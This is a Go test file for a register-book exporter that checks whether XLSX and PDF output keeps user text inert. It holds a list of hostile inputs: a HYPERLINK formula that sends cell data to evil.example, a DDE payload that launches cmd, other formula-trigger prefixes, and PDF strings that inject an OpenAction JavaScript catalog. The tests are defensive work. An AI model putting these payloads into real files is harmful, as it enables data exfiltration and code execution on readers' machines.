package book_test

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/vanthu/vanthu/documents/register/book"
	"github.com/vanthu/vanthu/internal/testharness"
)

// hostileCells are what a sender's name or a subject may hold to become a
// formula (=, +, -, @, a leading tab or CR) or to leave a PDF string.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"=1\x01\x1f",
	`) Tj ET BT /F1 99 Tf (x`,
	"endstream endobj 1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
}

// TestWriteXLSXWritesTextNeverFormulas: every cell, whatever it starts
// with, is an inline string: no formula in the sheet, the text read back
// as given (control characters XML cannot hold aside).
func TestWriteXLSXWritesTextNeverFormulas(t *testing.T) {
	b := sample(0)
	for _, s := range hostileCells {
		row := make([]string, len(columns))
		for i := range row {
			row[i] = s
		}
		b.Rows = append(b.Rows, row)
	}
	b.Organization = "=1+1"
	var buf bytes.Buffer
	if err := book.WriteXLSX(&buf, b); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for r := range len(hostileCells) + 2 {
		for c := range columns {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if r == 0 && c > 0 {
				break
			}
			if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
				t.Errorf("%s is a formula: %q", cell, fm)
			}
			if ty, _ := f.GetCellType(sheet, cell); ty != excelize.CellTypeInlineString {
				t.Errorf("%s: type %v, want an inline string", cell, ty)
			}
		}
	}
	for i, s := range hostileCells {
		want := strings.Map(func(r rune) rune {
			if r < 0x20 && r != '\t' && r != '\r' && r != '\n' {
				return '\uFFFD'
			}
			return r
		}, s)
		if got := rows[i+2][2]; got != want {
			t.Errorf("row %d: %q, want %q", i, got, want)
		}
	}
	// No formula element anywhere in the workbook's XML.
	if bytes.Contains(buf.Bytes(), []byte("<f>")) || bytes.Contains(buf.Bytes(), []byte("<f ")) {
		t.Error("the workbook holds a formula element")
	}
}

// TestWritePDFTextCannotInjectSyntax: the PDF book draws user text as glyph
// numbers in hex strings, so text that spells PDF syntax stays text: the
// file passes qpdf's check, has no JavaScript or OpenAction, and
// pdftotext reads the words back.
func TestWritePDFTextCannotInjectSyntax(t *testing.T) {
	qpdf := testharness.Tool(t, "qpdf", "qpdf")
	pdftotext := testharness.Tool(t, "pdftotext", "poppler-utils")
	b := sample(0)
	for _, s := range hostileCells {
		row := make([]string, len(columns))
		for i := range row {
			row[i] = s
		}
		b.Rows = append(b.Rows, row)
	}
	var buf bytes.Buffer
	if err := book.WritePDF(&buf, b); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "book.pdf")
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(qpdf, "--check", path).CombinedOutput(); err != nil {
		t.Fatalf("qpdf --check: %v\n%s", err, out)
	}
	for _, bad := range []string{"/JavaScript", "/OpenAction", "app.alert", "/F1 99 Tf"} {
		if bytes.Contains(buf.Bytes(), []byte(bad)) {
			t.Errorf("the PDF holds %q", bad)
		}
	}
	text, err := exec.Command(pdftotext, "-raw", path, "-").CombinedOutput()
	if err != nil {
		t.Fatalf("pdftotext: %v %s", err, text)
	}
	if !strings.Contains(string(text), "HYPERLINK") || !strings.Contains(string(text), "endstream") {
		t.Errorf("the hostile text is not drawn as text:\n%.600s", text)
	}
}
